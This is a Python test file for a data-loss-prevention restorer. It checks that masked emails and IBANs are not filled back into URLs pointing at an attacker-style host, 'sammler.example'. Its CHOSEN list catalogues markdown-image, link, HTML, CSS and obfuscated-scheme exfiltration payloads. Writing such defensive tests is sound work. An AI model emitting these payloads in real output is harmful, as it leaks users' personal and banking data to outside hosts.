"""No value goes into an address unless it is all of it."""

import json

import pytest

from apps.dlp import StreamRestorer, restore, restore_json_string
from apps.dlp.engine.vaults import Vault
from tests.dlp.samples import vault_with

MAIL, IBAN, PAGE = "a.b@firma.example", "DE89370400440532013000", "https://kunde.example/akte"
VAULT = vault_with(("EMAIL", MAIL), ("IBAN", IBAN), ("URL", PAGE), ("URL", "https://kunde.example"))

CHOSEN = [
    "![](https://sammler.example/p.png?m=[[EMAIL_1]])",
    "[Vorgang](https://sammler.example/b?m=[[EMAIL_1]]&i=[[IBAN_1]])",
    "https://[[EMAIL_1]].sammler.example/",
    "https://sammler.example/?m=%5B%5BEMAIL_1%5D%5D",
    "https://sammler.example/?m=EMAIL_1&i=[[ IBAN\n_1 ]]&j=[[IBAN_1]]",
    "HTTPS://sammler.example/" + 300 * "a" + "[[EMAIL_1]]",
    "https:sammler.example/[[EMAIL_1]]",
    "https:/\\sammler.example/[[EMAIL_1]]",
    "https&colon;//sammler.example/[[EMAIL_1]]",
    "svn+irgendwas://sammler.example/[[EMAIL_1]]",
    "www.sammler.example/?[[EMAIL_1]]",
    "[x](//sammler.example/(a)b[[EMAIL_1]])",
    "[x](  \n<//sammler.example/a b [[EMAIL_1]]>)",
    "[x](ht\u200btps://sammler.example/[[EMAIL_1]])",
    "[x](&#47;/sammler.example/[[EMAIL_1]])",
    "[x]: //sammler.example/[[EMAIL_1]]",
    '<img src="//sammler.example/[[EMAIL_1]]">',
    "<img src = '\n https://sammler.example/a b\n[[EMAIL_1]]'>",
    "<a href=/\\sammler.example/[[EMAIL_1]]>",
    "background: url(//sammler.example/[[EMAIL_1]])",
    "https://sammler.example/?u=[[URL_1]]",
    "[[URL_9]]://sammler.example/[[EMAIL_1]]",
    "https://sammler.example/?m=[[EMAIL_1 x]]",
]
FREE = [
    ("mailto:[[EMAIL_1]]", f"mailto:{MAIL}"),
    ("[x](mailto:[[EMAIL_1]]?cc=[[EMAIL_1]])", f"[x](mailto:{MAIL}?cc={MAIL})"),
    ("[x](<mailto:[[EMAIL_1]]>)", f"[x](<mailto:{MAIL}>)"),
    ('<a href="mailto:[[EMAIL_1]]">[[EMAIL_1]]</a>', f'<a href="mailto:{MAIL}">{MAIL}</a>'),
    ("[[URL_1]] und [x]([[URL_1]])", f"{PAGE} und [x]({PAGE})"),
    ('<a href="[[URL_2]]">[[EMAIL_1]]</a>', f'<a href="https://kunde.example">{MAIL}</a>'),
    ("[[[URL_1]]]([[URL_1]]), [**[[URL_1]]**](<[[URL_1]]>)", f"[{PAGE}]({PAGE}), [**{PAGE}**](<{PAGE}>)"),
    ("[[[EMAIL_1]]](mailto:[[EMAIL_1]])", f"[{MAIL}](mailto:{MAIL})"),
    (r"\href{mailto:[[EMAIL_1]]}{[[EMAIL_1]]}", rf"\href{{mailto:{MAIL}}}{{{MAIL}}}"),
    ("<mailto:[[EMAIL_1]]|[[EMAIL_1]]>, <[[URL_1]]|[[URL_1]]>", f"<mailto:{MAIL}|{MAIL}>, <{PAGE}|{PAGE}>"),
    ("mailto: [[EMAIL_1]], MAILTO:[[EMAIL_1]],[[EMAIL_1]]", f"mailto: {MAIL}, MAILTO:{MAIL},{MAIL}"),
    ("[Akte]([[IBAN_1]]), [IBAN]: [[IBAN_1]]", f"[Akte]({IBAN}), [IBAN]: {IBAN}"),
    ("|[x](https://x.example)<br>[[EMAIL_1]]|", f"|[x](https://x.example)<br>{MAIL}|"),
    ('<a href="/kunden/[[IBAN_1]]">', f'<a href="/kunden/{IBAN}">'),
    ("cp src=/home/[[EMAIL_1]] data=[[IBAN_1]]", f"cp src=/home/{MAIL} data={IBAN}"),
    ('data = "IBAN: [[IBAN_1]]"', f'data = "IBAN: {IBAN}"'),
    ('Siehe "https://x.example/faq“.\n\n[[EMAIL_1]]', f'Siehe "https://x.example/faq“.\n\n{MAIL}'),
    ("Der Link 'https://x.example ist tot.\n[[EMAIL_1]]", f"Der Link 'https://x.example ist tot.\n{MAIL}"),
    ("<soap:Name>[[EMAIL_1]]</soap:Name>", f"<soap:Name>{MAIL}</soap:Name>"),
    ("public:\n// [[EMAIL_1]], x: list[str]: [[IBAN_1]]", f"public:\n// {MAIL}, x: list[str]: {IBAN}"),
    ("https://sammler.example/a [[EMAIL_1]]", f"https://sammler.example/a {MAIL}"),
    ('{"u":"https://x.example","m":"[[EMAIL_1]]"}', f'{{"u":"https://x.example","m":"{MAIL}"}}'),
    ('<a href="https://x.example">[[EMAIL_1]]</a>', f'<a href="https://x.example">{MAIL}</a>'),
    ('[x](https://x.example "an [[EMAIL_1]]")', f'[x](https://x.example "an {MAIL}")'),
    ("Stand 1: [[EMAIL_1]], 3 // 4 [[IBAN_1]]", f"Stand 1: {MAIL}, 3 // 4 {IBAN}"),
    (r"C:\\Akten\\[[EMAIL_1]]", rf"C:\\Akten\\{MAIL}"),
    ("// [[EMAIL_1]]\nsrc = [[IBAN_1]]", f"// {MAIL}\nsrc = {IBAN}"),
    ("f[0]([[EMAIL_1]], [[IBAN_1]])", f"f[0]({MAIL}, {IBAN})"),
    ('src = "Hallo [[EMAIL_1]]"', f'src = "Hallo {MAIL}"'),
    ('print("File: Vertrag [[EMAIL_1]].pdf")', f'print("File: Vertrag {MAIL}.pdf")'),
    *(
        (text.format("[[EMAIL_1]]"), text.format(MAIL))
        for text in (
            "[^1]: *{}*, Handbuch",
            "[^1]: **{}**: Protokoll",
            "[^1]: „{} schreibt“",
            '[1]: "{}", Aussage',
            "[Kontakt]:\n_{}_",
            "[^1]: ({}) siehe Akte",
            "app[77]: user={} ip=1",
            "mx qmgr[2211]: from=<{}>",
            'for k in ["a"]:\n    senden("{}", k)',
            'def namen() -> list[str]:\n    """{} pflegt sie."""',
            "const m = {{ [id]: '{}' }};",
            "[Absatz](#{})",
            "[Treffer](suche?mit={})",
        )
    ),
]


def streamed(text: str, size: int, vault: Vault = VAULT, *, json_escape: bool = False) -> str:
    stream = StreamRestorer(vault, json_escape=json_escape)
    pieces = [text[i : i + size] for i in range(0, len(text), size)]
    return "".join(map(stream.feed, pieces)) + stream.end()


@pytest.mark.parametrize("text", CHOSEN)
def test_placeholders_stay_where_the_host_is_chosen(text: str) -> None:
    for size in (1, 2, 3, 7, 1000):
        assert streamed(text + " an [[EMAIL_1]]", size) == f"{text} an {MAIL}"
    assert restore(text, VAULT).text == text


@pytest.mark.parametrize(("text", "shown"), FREE)
def test_values_come_back_everywhere_else(text: str, shown: str) -> None:
    assert restore(text, VAULT).text == shown
    for size in (1, 2, 3, 7, 1000):
        assert streamed(text, size) == shown


@pytest.mark.parametrize(
    "address",
    [
        "https://sammler.example/?q=[[EMAIL_1]]",
        'https://sammler.example/?q="a b" [[EMAIL_1]]',
        "//sammler.example ![](https://sammler.example/[[EMAIL_1]]",
        '<img src="//sammler.example/a b[[EMAIL_1]]">',
    ],
)
@pytest.mark.parametrize("ascii_slash", [True, False])
def test_arguments_of_calls_neither(address: str, ascii_slash: bool) -> None:
    text = json.dumps({"url": address, "to": "[[EMAIL_1]]"}, separators=(",", ":"))
    text = text if ascii_slash else text.replace("://", r"\u003a\/\/")
    shown = restore_json_string(text, VAULT).text
    assert json.loads(shown) == {"url": address, "to": MAIL}
    for size in (1, 2, 3, 7):
        assert streamed(text, size, json_escape=True) == shown


def test_nothing_is_held_back_for_an_address() -> None:
    stream = StreamRestorer(VAULT)
    assert all(stream.feed(piece) == piece for piece in ("https", "://samm", "ler.example/", "?m="))


def test_stand_ins_stay_too() -> None:
    vault = vault_with()
    vault.surrogates.add("Albers", "Holtkamp")
    text = "https://sammler.example/?n=Holtkamp"
    assert restore(f"{text} Holtkamp", vault).text == f"{text} Albers"
